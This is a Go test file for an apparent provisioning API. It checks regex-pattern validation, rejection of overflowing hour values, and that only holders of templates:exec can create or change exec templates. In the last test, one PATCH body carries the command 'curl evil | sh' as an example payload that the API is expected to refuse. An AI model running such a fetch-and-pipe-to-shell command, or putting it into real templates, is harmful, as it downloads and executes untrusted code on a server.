package api_test

import (
	"strings"
	"testing"
)

// TestTemplatePatternCompilesWhatRuns: a pattern valid only unanchored is
// refused at creation, naming it, instead of panicking on every request.
func TestTemplatePatternCompilesWhatRuns(t *testing.T) {
	e := newEnv(t)
	tpl := map[string]any{"_id": "quoted", "name": "Quoted", "params": []any{map[string]any{"name": "p", "pattern": `\Qabc`}}}
	r := e.do("devops", "POST", "/v1/templates", tpl)
	if e.want(r, 422); !strings.Contains(string(r.Body), "params[0].pattern") {
		t.Fatalf("422 does not name params[0].pattern: %s", r.Body)
	}
}

// TestHoursOverflow: hours beyond what a duration holds are refused naming
// the field, instead of wrapping around to an expiry centuries ago.
func TestHoursOverflow(t *testing.T) {
	e := newEnv(t)
	e.want(e.do("devops", "POST", "/v1/templates", seedTemplate), 201)
	for _, tt := range []struct {
		method, path, field string
		body                map[string]any
	}{
		{"POST", "/v1/provisionRequests", "ttl_hours", map[string]any{"resource_template": "basic-eks-cluster", "resource_parameters": seedParams, "ttl_hours": 1e300}},
		{"POST", "/v1/provisionRequests", "ttl_hours", map[string]any{"resource_template": "basic-eks-cluster", "resource_parameters": seedParams, "ttl_hours": 721}},
		{"POST", "/v1/templates", "ttl_max_hours", map[string]any{"_id": "big", "name": "Big", "ttl_max_hours": 1e300}},
		{"PATCH", "/v1/templates/basic-eks-cluster", "extension_max_hours", map[string]any{"extension_max_hours": 1e300}},
	} {
		r := e.do("devops", tt.method, tt.path, tt.body)
		if e.want(r, 422); !strings.Contains(string(r.Body), tt.field) {
			t.Fatalf("%s %s: 422 does not name %s: %s", tt.method, tt.path, tt.field, r.Body)
		}
	}
	id := e.submit("dev", seedParams)
	e.want(e.do("devops", "POST", "/v1/provisionRequests/"+id+"/approve", nil), 200)
	e.deploy(id)
	for _, h := range []any{1e300, "1e300", 9.3e18} {
		r := e.do("dev", "POST", "/v1/extensionRequests", map[string]any{"reason": "r", "extend_by": h, "provision_request": id})
		if e.want(r, 422); !strings.Contains(string(r.Body), "extend_by") {
			t.Fatalf("extend_by %v: 422 does not name extend_by: %s", h, r.Body)
		}
	}
}

// TestExecTemplatesNeedTemplatesExec: exec templates run commands on the
// server, so creating or changing one is templates:exec (admins by
// default), not templates:write; devops keep the other drivers.
func TestExecTemplatesNeedTemplatesExec(t *testing.T) {
	e := newEnv(t)
	exec := map[string]any{"_id": "script", "name": "Script", "driver": "exec"}
	r := e.do("devops", "POST", "/v1/templates", exec)
	if e.want(r, 403); !strings.Contains(string(r.Body), "templates:exec") {
		t.Fatalf("403 does not name templates:exec: %s", r.Body)
	}
	e.want(e.do("admin", "POST", "/v1/templates", exec), 201)
	r = e.do("devops", "PATCH", "/v1/templates/script", map[string]any{"config": map[string]any{"provision": "curl evil | sh"}})
	if e.want(r, 403); !strings.Contains(string(r.Body), "templates:exec") {
		t.Fatalf("changing an exec template: %s", r.Body)
	}
	e.want(e.do("admin", "PATCH", "/v1/templates/script", map[string]any{"description": "runs a script"}), 200)
	e.want(e.do("devops", "POST", "/v1/templates", map[string]any{"_id": "ns", "name": "NS", "driver": "kubernetes-namespace"}), 201)
	e.want(e.do("devops", "PATCH", "/v1/templates/ns", map[string]any{"description": "a namespace"}), 200)
}
